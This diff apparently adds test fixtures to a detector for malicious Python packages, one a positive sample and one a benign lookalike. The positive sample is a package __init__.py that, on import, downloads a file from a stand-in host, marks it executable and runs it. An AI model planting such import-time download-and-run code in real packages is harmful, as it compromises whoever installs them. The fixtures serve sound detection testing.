@@ -319,6 +319,25 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/tools.py", 3, "call",
     ),
+    "download-and-run/helpers-called-at-import": Positive(
+        "download-and-run", C,
+        W({"pkg/__init__.py": """
+            import os
+            import subprocess
+            import urllib.request
+
+            def fetch():
+                urllib.request.urlretrieve("https://cdn.example.com/agent", "/tmp/agent")
+
+            def launch():
+                os.chmod("/tmp/agent", 0o755)
+                subprocess.Popen(["/tmp/agent"])
+
+            fetch()
+            launch()
+        """}),
+        "pkg/__init__.py", 9, "import",
+    ),
     "obfuscated-exec/blob-and-exec-at-import": Positive(
         "obfuscated-exec", H,
         W({"pkg/core.py": f"""
@@ -950,6 +969,35 @@ NEGATIVE: dict[str, Negative] = {
             tarfile.open("libfoo.tar.gz").extractall("build")
             subprocess.check_call(["cmake", "-S", "build/libfoo", "-B", "build/out"])
             setup(name="demo")
+        """}),
+    ),
+    "download-and-run/utilities-merely-named-at-import": Negative(
+        # setuptools' vendored jaraco.context: one function downloads a tarball, another is an
+        # rmtree error handler that chmods; both are only handed to helpers at import.
+        "download-and-run",
+        W({"pkg/context.py": """
+            import functools
+            import os
+            import shutil
+            import stat
+            import urllib.request
+
+            def tarball(url, target_dir):
+                req = urllib.request.urlopen(url)
+                return req
+
+            def remove_readonly(func, path, exc_info):
+                os.chmod(path, stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO)
+                func(path)
+
+            def robust_remover():
+                return functools.partial(shutil.rmtree, onerror=remove_readonly)
+
+            def compose(*managers):
+                return managers
+
+            tarball_cwd = compose(os.getcwd, tarball)
+            robust_rmtree = functools.partial(shutil.rmtree, onerror=robust_remover())
         """}),
     ),
     "download-and-run/cache-download-when-called": Negative(
